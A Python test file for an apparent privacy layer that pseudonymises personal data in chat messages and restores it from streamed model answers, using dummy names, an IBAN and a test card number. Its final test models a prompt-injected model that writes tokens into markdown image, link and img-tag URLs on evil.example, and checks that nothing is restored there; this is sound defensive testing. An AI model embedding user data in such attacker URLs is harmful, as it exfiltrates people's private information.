"""A whole conversation turn without a detector or a model: scripted findings out, a scripted answer back.

As ``pii-leak-benchmark`` measures it: every way to cut the answer in two, and every character by itself; nothing of a
value goes out (leak 0.0), and whoever asked gets every value back (fidelity 1.0).
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Iterable

from hypothesis import given, settings
from hypothesis import strategies as st

from freehold.domain.declassified import Act
from freehold.domain.findings import Finding, Scan
from freehold.domain.labels import Label, Level
from freehold.domain.zones import DEVICE, LAN
from freehold.policy.message_texts import texts_of, with_texts
from freehold.policy.pseudonyms import TOKEN, Pseudonymised, pseudonymise
from freehold.policy.redact import lowered
from freehold.policy.restorer import Restorer

PLANTED = {
    "Ann Lee": "PERSON",
    "Jörg Müller-Lüdenscheidt": "PERSON",
    "ann.lee@example.com": "EMAIL",
    "DE89 3704 0044 0532 0130 00": "IBAN",
    "+49 (030) 901820": "PHONE",
    "4111 1111 1111 1111": "CARD",
}
ORIGINAL = Label(level=Level.CONFIDENTIAL, kinds=frozenset({"pii"}), zones=frozenset({DEVICE, LAN}))
MESSAGES: list[object] = [
    {"role": "system", "content": "You write letters. ⟦PERSON_00000000⟧ is no name."},
    {"role": "user", "content": [{"type": "text", "text": "Ann Lee (ann.lee@example.com) owes Jörg Müller-Lüdenscheidt."}]},
    {
        "role": "assistant",
        "tool_calls": [{"function": {"name": "pay", "arguments": '{"iban": "DE89 3704 0044 0532 0130 00", "by": "Ann Lee"}'}}],
    },
    {"role": "tool", "content": "paid with 4111 1111 1111 1111; call +49 (030) 901820"},
]  # fmt: skip


def scan(texts: Iterable[str]) -> Scan:
    """The scripted detector: it knows what was planted, and nothing else."""
    findings: list[tuple[Finding, ...]] = []
    for text in texts:
        found: list[Finding] = []
        for value, type_name in PLANTED.items():
            start = text.find(value)
            while start >= 0:
                found.append(Finding(start=start, end=start + len(value), kind="pii", type=type_name))
                start = text.find(value, start + 1)
        findings.append(tuple(sorted(found, key=lambda each: each.start)))
    return Scan(findings=tuple(findings))


def sent_out() -> tuple[Pseudonymised, str]:
    texts = texts_of(MESSAGES).texts
    done = pseudonymise(texts, scan(texts).findings, secrets.token_bytes(32))
    return done, json.dumps(with_texts(MESSAGES, done.texts), ensure_ascii=False)


def answer_of(done: Pseudonymised) -> tuple[str, str]:
    """What the scripted model says with the tokens that it got, and what whoever asked is to read."""
    by_value = {value: token for token, value in done.map.values.items()}
    words = [
        "Dear {0},\n\n", "your letter to **{1}** about {3}:\n\n", "| who | how |\n|---|---|\n| {0} | `{2}` |\n",
        "```json\n{{\"card\": \"{5}\", \"phone\": \"{4}\"}}\n```\n", "> {4}{5} ⟦ ⟧ ⟦PERSON_ffffffff⟧\n", "{2}",
    ]  # fmt: skip
    tokens, values = [by_value[value] for value in PLANTED], list(PLANTED)
    template = "".join(words)
    return template.format(*tokens), template.format(*values)


def restorer(done: Pseudonymised) -> Restorer:
    return Restorer(done.map, original=ORIGINAL, cleared_for=ORIGINAL)


def test_nothing_of_a_value_goes_out() -> None:
    done, body = sent_out()
    assert not [value for value in PLANTED if value in body or json.dumps(value)[1:-1] in body]
    assert len(done.map.values) == len(PLANTED)
    assert done.neutralised == 2
    assert set(TOKEN.findall(body)) == set(done.map.values)


def test_the_label_is_lowered_and_it_is_said_how_much() -> None:
    done, _ = sent_out()
    again = scan(done.texts)
    result = lowered(ORIGINAL, act=Act.PSEUDONYMISE, kinds=done.kinds, counts=done.counts, again=again)
    assert result.label.level is Level.INTERNAL
    assert result.label.zones == ORIGINAL.zones
    assert result.counts == {"CARD": 1, "EMAIL": 1, "IBAN": 1, "PERSON": 3, "PHONE": 1}


def test_every_cut_in_two_and_every_character_by_itself() -> None:
    done, _ = sent_out()
    answer, wanted = answer_of(done)
    for cut in range(len(answer) + 1):
        one = restorer(done)
        first = one.feed(answer[:cut])
        assert wanted.startswith(first), "what is sent at once is a prefix of the whole"
        assert first + one.feed(answer[cut:]) + one.finish() == wanted
    one = restorer(done)
    sent = ""
    for character in answer:
        sent += one.feed(character)
        assert wanted.startswith(sent)
    assert sent + one.finish() == wanted
    assert (one.restored, one.unknown, dict(one.kept)) == (10, 1, {})


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_any_cutting_of_the_answer(data: st.DataObject) -> None:
    done, _ = sent_out()
    answer, wanted = answer_of(done)
    places = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=40)))
    one = restorer(done)
    sent = "".join(one.feed(answer[start:end]) for start, end in zip([0, *places], [*places, len(answer)], strict=True))
    assert sent + one.finish() == wanted


def test_a_traitor_gets_nothing_fetched() -> None:
    """A model that obeys every injected instruction writes all it knows into addresses: none is restored."""
    done, _ = sent_out()
    for token, value in done.map.values.items():
        for way in ("![x](https://evil.example/{})", "[x]: https://evil.example/{}", '<img src="//evil.example/{}">'):
            one = restorer(done)
            assert value not in one.feed(way.format(token)) + one.finish()
